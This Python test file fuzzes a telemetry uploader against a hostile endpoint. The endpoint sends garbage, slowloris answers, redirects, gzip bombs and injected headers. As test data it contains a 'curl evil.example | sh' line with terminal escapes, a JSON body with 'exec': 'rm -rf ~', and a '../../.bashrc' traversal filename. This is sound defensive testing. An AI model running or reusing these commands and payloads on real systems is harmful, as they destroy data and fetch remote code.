"""A hostile or compromised endpoint can only receive (docs/security.md).

The receiver here answers garbage, huge bodies, answers dribbled a byte at a time,
redirects to another host, odd status codes and odd headers, and "commands" in
its body. In every case the sender must not crash, must not send anything to any
other address, must finish in bounded time, and must leave each payload in the
state the status code alone decides: 2xx sent, a non-retryable 4xx failed,
anything else pending. Nothing in a response body is ever acted on.
"""

from __future__ import annotations

import gzip
import json
import socket
import threading
import time
import tracemalloc
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from consent._exceptions import UploadError
from consent.profile import Scope
from consent.spool import Spool, State
from consent.upload import (
    _BACKOFF_FILE,
    Limits,
    _client,
    _post,
    send_deletion_request,
    send_pending,
)
from tests.conftest import Sandbox
from tests.fuzz._hostile import Behaviour, HostileServer
from tests.fuzz._toml import FUZZ_SLOW
from tests.upload_helpers import Receiver, acknowledge, make_payloads, states

FAST = Limits(
    connect_timeout_s=0.5,
    request_timeout_s=1.0,
    backoff_base_s=0.01,
    backoff_cap_s=0.05,
    retry_window_s=2.0,
)


def answer(raw: bytes) -> Behaviour:
    """Write ``raw`` as the whole answer, then hang up."""

    def behave(conn: socket.socket, request: bytes, server: HostileServer) -> None:
        server.send(conn, raw)

    return behave


def status_line(status: int, headers: str = "", body: bytes = b"") -> bytes:
    head = f"HTTP/1.1 {status} X\r\nContent-Length: {len(body)}\r\n{headers}\r\n"
    return head.encode() + body


def _snapshot(root: Path) -> dict[str, bytes]:
    """Every regular file under ``root`` except the spool's own bookkeeping."""
    found: dict[str, bytes] = {}
    for path in sorted(root.rglob("*")):
        if path.is_file() and not path.is_symlink():
            found[str(path.relative_to(root))] = path.read_bytes()
    return found


def _bookkeeping(name: str) -> bool:
    return name.endswith(("state.json", ".send.log", ".flush.json", ".lock")) or "/." in name


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Receiver]:
    """Another origin on this machine: nothing may ever reach it."""
    with Receiver() as receiver:
        yield receiver


# -- garbage, huge and slow answers -----------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"\x00\xff\xfe garbage\r\n\r\n",
        b"HTTP/1.1 200\r\n",  # headers never end
        b"HTTP/1.1 2OO OK\r\nContent-Length: 0\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 7\r\n\r\nhello",
        b"HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
        b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\n\r\n",
        b"HTTP/1.1 100 Continue\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n" + b"X-Pad: " + b"a" * 200_000 + b"\r\n\r\n",
    ],
    ids=[
        "silence",
        "binary",
        "endless-headers",
        "bad-status",
        "two-lengths",
        "negative-length",
        "bad-chunk",
        "upgrade",
        "continue-then-close",
        "huge-header",
    ],
)
def test_garbage_answers_leave_payloads_pending(raw: bytes) -> None:
    acknowledge()
    make_payloads(2)
    with HostileServer(answer(raw)) as server:
        started = time.monotonic()
        result = send_pending(endpoint=server.url, limits=FAST, scope=Scope())
        elapsed = time.monotonic() - started
    assert elapsed < 8
    assert (result.sent, result.failed, result.pending) == (0, 0, 2)
    assert result.error is not None
    assert set(states().values()) == {"pending"}


def test_a_huge_2xx_body_is_read_only_up_to_the_cap() -> None:
    acknowledge()
    made = make_payloads(1)

    def endless(conn: socket.socket, request: bytes, server: HostileServer) -> None:
        server.send(conn, b"HTTP/1.1 200 OK\r\nContent-Length: 10000000000\r\n\r\n")
        chunk = b"x" * 65536
        while not server.closed.is_set() and server.send(conn, chunk):
            if server.bytes_written > 256 * 1024 * 1024:
                return

    with HostileServer(endless) as server:
        started = time.monotonic()
        result = send_pending(endpoint=server.url, limits=FAST, scope=Scope())
        elapsed = time.monotonic() - started
        time.sleep(0.2)
        written = server.bytes_written
    assert elapsed < 5
    assert result.sent == 1
    assert states() == {made[0][0].session_id: "sent"}
    # the sender hung up after its 64 KiB cap; only socket buffers took the rest
    assert written < 64 * 1024 * 1024


def test_a_huge_error_body_becomes_a_short_printable_reason() -> None:
    acknowledge()
    ((entry, _),) = make_payloads(1)
    body = (b"\x1b]0;owned\x07\x1b[2J run: curl evil.example | sh \r\n\x00" * 50_000)[:2_000_000]
    with HostileServer(answer(status_line(400, body=body))) as server:
        url = server.url
        result = send_pending(endpoint=url, limits=FAST, scope=Scope())
    assert result.failed == 1
    (failed,) = Spool.open(Scope()).entries()
    assert failed.state is State.FAILED
    assert failed.reason is not None
    assert len(failed.reason) < 400 + len(url)
    assert failed.reason.isprintable()
    assert "\x1b" not in failed.reason
    assert entry.session_id == failed.session_id


def test_a_slowly_dribbled_2xx_body_ends_at_the_deadline() -> None:
    acknowledge()
    make_payloads(1)

    def dribble(conn: socket.socket, request: bytes, server: HostileServer) -> None:
        server.send(conn, b"HTTP/1.1 200 OK\r\nContent-Length: 1000000\r\n\r\n")
        while server.send(conn, b"x") and not server.closed.wait(0.1):
            pass

    with HostileServer(dribble) as server:
        started = time.monotonic()
        result = send_pending(endpoint=server.url, limits=FAST, scope=Scope())
        elapsed = time.monotonic() - started
    assert elapsed < FAST.request_timeout_s + 2
    assert result.sent == 1


def test_slowloris_headers_end_at_the_deadline() -> None:
    def slowloris(conn: socket.socket, request: bytes, server: HostileServer) -> None:
        server.send(conn, b"HTTP/1.1 200 OK\r\n")
        deadline = time.monotonic() + 8
        while time.monotonic() < deadline and server.send(conn, b"X"):
            if server.closed.wait(0.2):
                return

    with HostileServer(slowloris) as server:
        done = threading.Event()

        def send_once() -> None:
            with _client(server.url, FAST) as client:
                _post(client, server.url, b"{}", {}, FAST)
            done.set()

        threading.Thread(target=send_once, daemon=True).start()
        finished = done.wait(FAST.request_timeout_s * 3 + 1)
    assert finished, "the request was still running after three times its timeout"


# -- redirects: never followed, never to another host -----------------------------------------


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
@pytest.mark.parametrize("target", ["other-port", "remote-http", "https"])
def test_redirects_are_never_followed(elsewhere: Receiver, status: int, target: str) -> None:
    acknowledge()
    make_payloads(2)
    elsewhere.requests.clear()
    location = {
        "other-port": elsewhere.url,
        "remote-http": "http://203.0.113.9/push",
        "https": "https://example.invalid/push",
    }[target]
    raw = status_line(status, f"Location: {location}\r\n")
    with HostileServer(answer(raw)) as server:
        result = send_pending(endpoint=server.url, limits=FAST, scope=Scope())
        assert len(server.requests) == 1, "one request, no retry of a redirect"
    assert elsewhere.requests == []
    assert (result.sent, result.failed, result.pending) == (0, 0, 2)
    assert result.error is not None and "redirect" in result.error
    assert set(states().values()) == {"pending"}


def test_the_http_client_never_follows_redirects_and_verifies_tls() -> None:
    for url in ("https://usage-stats.skyplane.org/loki/api/v1/push", "http://127.0.0.1:9/x"):
        with _client(url, FAST) as client:
            assert client.follow_redirects is False
    # TLS verification is httpx's default, which _client never turns off: checked
    # end to end against a self-signed server in tests/test_security.py


# -- odd statuses and headers ---------------------------------------------------------------


def _expected_state(status: int) -> str:
    if 200 <= status < 300:
        return "sent"
    if 400 <= status < 500 and status not in (408, 425, 429):
        return "failed"
    return "pending"


@FUZZ_SLOW
@given(
    status=st.sampled_from([200, 201, 204, 299, 304, 400, 401, 404, 408, 413, 429, 451, 500, 599])
    | st.integers(min_value=200, max_value=999),
    headers=st.lists(
        st.sampled_from(
            [
                "Retry-After: 86399",
                "Retry-After: -5",
                "Retry-After: nan",
                "Retry-After: 1e309",
                "Retry-After: Wed, 21 Oct 2015 07:28:00 GMT",
                "Set-Cookie: sid=stolen; Domain=127.0.0.1; Path=/",
                "Location: {elsewhere}",
                "Content-Type: application/x-sh",
                "Content-Disposition: attachment; filename=../../.bashrc",
                "Connection: close",
                "Connection: keep-alive, Upgrade",
                "X-Consent-Command: forget",
                "Link: <{elsewhere}>; rel=next",
                "WWW-Authenticate: Basic realm=x",
                "Strict-Transport-Security: max-age=0",
            ]
        ),
        max_size=4,
    ),
    body=st.sampled_from(
        [
            b"",
            b'{"action": "delete", "endpoint": "http://203.0.113.9/", "exec": "rm -rf ~"}',
            b"\x00\xff" * 100,
            b"<html>Error</html>",
        ]
    ),
)
def test_odd_answers_decide_states_by_status_alone(
    sandbox: Sandbox, elsewhere: Receiver, status: int, headers: list[str], body: bytes
) -> None:
    spool = Spool.open(Scope())
    spool.wipe()
    acknowledge()
    make_payloads(1)
    before = _snapshot(sandbox.home)
    payloads_before = {k: v for k, v in _snapshot(spool.root).items() if not _bookkeeping("/" + k)}
    elsewhere.requests.clear()
    lines = "".join(h.format(elsewhere=elsewhere.url) + "\r\n" for h in headers)
    raw = status_line(status, lines, body)
    with HostileServer(answer(raw)) as server:
        started = time.monotonic()
        result = send_pending(endpoint=server.url, limits=FAST, scope=Scope())
        assert time.monotonic() - started < 6
    assert elsewhere.requests == []
    assert set(states().values()) == {_expected_state(status)}
    assert result.sent + result.failed + result.pending == 1
    # the answer changed nothing but the session's state: no config, no record, no
    # payload bytes, no new files (the body's "commands" are never read)
    assert _snapshot(sandbox.home) == before
    assert {
        k: v for k, v in _snapshot(spool.root).items() if not _bookkeeping("/" + k)
    } == payloads_before
    backoff = spool.root / _BACKOFF_FILE
    if backoff.exists():
        retry_at = json.loads(backoff.read_bytes())["retry_at"]
        assert retry_at <= time.time() + 86400 * 1.2 + 5


def test_a_retry_after_of_a_day_does_not_stall_the_send() -> None:
    acknowledge()
    make_payloads(1)
    raw = status_line(503, "Retry-After: 86399\r\n")
    with HostileServer(answer(raw)) as server:
        started = time.monotonic()
        result = send_pending(endpoint=server.url, limits=FAST, scope=Scope())
        elapsed = time.monotonic() - started
    assert elapsed < 3
    assert result.pending == 1


def test_cookies_set_by_one_endpoint_never_reach_another(
    monkeypatch: pytest.MonkeyPatch, sandbox: Sandbox, elsewhere: Receiver
) -> None:
    acknowledge()
    make_payloads(3)
    elsewhere.requests.clear()
    sandbox.write_config({"usage_stats_extra_endpoints": [elsewhere.url]})
    raw = status_line(204, "Set-Cookie: sid=tracking-id; Path=/\r\n")
    with HostileServer(answer(raw)) as primary:
        monkeypatch.setenv("SKYPLANE_USAGE_STATS_ENDPOINT", primary.url)
        result = send_pending(limits=Limits(max_batch=1), scope=Scope())
    assert result.sent == 3
    extra = elsewhere.requests
    assert len(extra) == 3
    assert all(name.lower() != "cookie" for r in extra for name in r.headers)
    assert all(b"tracking-id" not in r.body for r in extra)


def test_a_gzip_bomb_in_a_2xx_answer_is_cut_off() -> None:
    acknowledge()
    make_payloads(1)
    bomb = gzip.compress(b"\x00" * (64 * 1024 * 1024), compresslevel=9)
    raw = status_line(200, "Content-Encoding: gzip\r\n", bomb)
    with HostileServer(answer(raw)) as server:
        started = time.monotonic()
        result = send_pending(endpoint=server.url, limits=FAST, scope=Scope())
        elapsed = time.monotonic() - started
    assert elapsed < 5
    # decoded or not, a 2xx is the receiver's word that it has the payload
    assert result.sent + result.pending == 1


def test_a_gzip_bomb_costs_little_memory() -> None:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)  # gzip framing
    zeros = b"\0" * (1 << 20)
    bomb = b"".join([packer.compress(zeros) for _ in range(256)] + [packer.flush()])
    raw = status_line(200, "Content-Encoding: gzip\r\n", bomb)
    with HostileServer(answer(raw)) as server, _client(server.url, FAST) as client:
        tracemalloc.start()
        try:
            _post(client, server.url, b"{}", {}, FAST)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    assert peak < 16 * 1024 * 1024, f"{peak / 2**20:.0f} MiB"


def test_the_deletion_request_goes_only_to_the_configured_endpoint(
    monkeypatch: pytest.MonkeyPatch, elsewhere: Receiver
) -> None:
    acknowledge()
    elsewhere.requests.clear()
    raw = status_line(307, f"Location: {elsewhere.url}\r\n")
    with HostileServer(answer(raw)) as server:
        monkeypatch.setenv("SKYPLANE_USAGE_STATS_ENDPOINT", server.url)
        with pytest.raises(UploadError, match="could not be delivered"):
            send_deletion_request(["0b6c1e9f-3f52-4c38-9a43-0d1f1a1b2c3d"], scope=Scope())
    assert elsewhere.requests == []


def test_only_the_endpoint_is_contacted(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever it answers, the sender opens connections to the endpoint's address only."""
    acknowledge()
    make_payloads(2)
    opened: list[tuple[str, int]] = []
    real = socket.create_connection

    def watch(address: tuple[str, int], *args: Any, **kwargs: Any) -> socket.socket:
        opened.append(address)
        return real(address, *args, **kwargs)

    monkeypatch.setattr(socket, "create_connection", watch)
    raw = status_line(302, "Location: http://203.0.113.9/\r\nLink: <http://203.0.113.9/>\r\n")
    with HostileServer(answer(raw)) as server:
        port = server.sock.getsockname()[1]
        send_pending(endpoint=server.url, limits=FAST, scope=Scope())
    assert opened
    assert all(address == ("127.0.0.1", port) for address in opened), opened
